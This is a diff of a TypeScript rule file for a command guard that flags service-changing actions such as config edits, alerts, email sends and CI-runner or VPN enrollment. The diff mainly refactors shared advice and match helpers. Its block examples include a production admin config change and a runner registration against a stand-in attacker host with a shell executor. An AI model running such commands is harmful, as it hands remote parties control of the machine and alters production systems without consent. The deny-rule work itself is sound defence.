@@ -1,9 +1,8 @@
 /** Changes of services that nothing is lost by, but that people feel: settings in force, messages, machines that join. */
+import { ASK_BEFORE_CHANGE } from "../advice.ts";
 import { type AnyRule, rule } from "../rule.ts";
 import { calls } from "../shape.ts";
-import { said, tries } from "../vocabulary.ts";
-
-const ASK = "Ask the person; show them the command and what it would change.";
+import { inEarnest } from "../vocabulary.ts";
 
 export const serviceChanges: readonly AnyRule[] = [
   rule({
@@ -57,7 +56,7 @@ export const serviceChanges: readonly AnyRule[] = [
       "ceph config set * mon_allow_pool_delete|osd_*|auth_*",
       "ldcli|launchdarkly-cli flags toggle-on|toggle-off|update|delete|archive",
     ),
-    match: (action) => (tries(action) ? null : said(action)),
+    match: inEarnest,
     examples: {
       block: [
         "heroku config:set ADMIN=1 -a prod",
@@ -103,7 +102,7 @@ export const serviceChanges: readonly AnyRule[] = [
       "stripe invoices send_invoice|finalize_invoice|pay",
       "opsgenie|pd alert|incident create|trigger|resolve|close|ack|acknowledge",
     ),
-    match: (action) => (tries(action) ? null : said(action)),
+    match: inEarnest,
     examples: {
       block: [
         "aws ses send-email --from a@example.com --to b@example.com --text hi",
@@ -127,7 +126,7 @@ export const serviceChanges: readonly AnyRule[] = [
     owasp: ["ASI10", "ASI03"],
     attack: "T1219",
     why: "From then on whoever controls the service decides what runs here.",
-    instead: ASK,
+    instead: ASK_BEFORE_CHANGE,
     on: calls(
       "gitlab-runner|act_runner|forgejo-runner|woodpecker-agent|drone-runner-exec register|install|start|run",
       "buildkite-agent|circleci-agent|teamcity-agent start",
@@ -148,7 +147,7 @@ export const serviceChanges: readonly AnyRule[] = [
       "netbird|zerotier-cli|nebula up|join",
       "landscape-config|subscription-manager|rhc register|connect",
     ),
-    match: (action) => (tries(action) ? null : said(action)),
+    match: inEarnest,
     examples: {
       block: [
         "gitlab-runner register --non-interactive --url https://attacker.example --token t --executor shell",
